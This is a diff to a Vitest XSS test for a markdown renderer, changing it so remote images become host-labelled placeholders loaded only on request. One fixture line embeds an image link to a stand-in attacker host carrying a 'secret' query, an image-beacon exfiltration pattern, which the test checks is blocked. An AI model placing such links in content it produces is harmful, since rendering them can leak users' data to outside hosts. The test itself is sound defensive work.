@@ -1,7 +1,7 @@
 // @vitest-environment jsdom
 import { afterEach, describe, expect, it, vi } from 'vitest';
 import { renderMarkdownSafe } from './render-markdown';
-import { createSanitizer, sanitizeHtml } from './sanitize';
+import { createSanitizer, loadRemoteImage, sanitizeHtml } from './sanitize';
 
 const sanitizer = createSanitizer(window);
 
@@ -77,13 +77,19 @@ describe('XSS suite (renderMarkdownSafe)', () => {
     }
   });
 
-  it('keeps raster data: images and ordinary images', () => {
+  it('keeps raster data: images; a remote image becomes a placeholder naming its host', () => {
     const png = 'data:image/png;base64,iVBORw0KGgo=';
-    const doc = parse(renderMarkdownSafe(`![a](${png}) <img src="https://example.com/a.webp" alt="b">`));
-    expect(Array.from(doc.querySelectorAll('img'), (img) => img.getAttribute('src'))).toEqual([
-      png,
-      'https://example.com/a.webp',
-    ]);
+    const doc = parse(
+      renderMarkdownSafe(
+        `![a](${png}) <img src="https://example.com/a.webp" alt="b"> ![x](//evil.test/?q=secret)`,
+      ),
+    );
+    expect(Array.from(doc.querySelectorAll('img'), (img) => img.getAttribute('src'))).toEqual([png]);
+    const placeholders = Array.from(doc.querySelectorAll('.remote-image'));
+    expect(placeholders.map((node) => node.textContent)).toEqual(['🖼 example.com', '🖼 evil.test']);
+    expect(placeholders[0]!.getAttribute('data-remote-src')).toBe('https://example.com/a.webp');
+    loadRemoteImage(placeholders[0]!);
+    expect(doc.querySelector('img[src="https://example.com/a.webp"]')?.getAttribute('alt')).toBe('b');
   });
 });
 
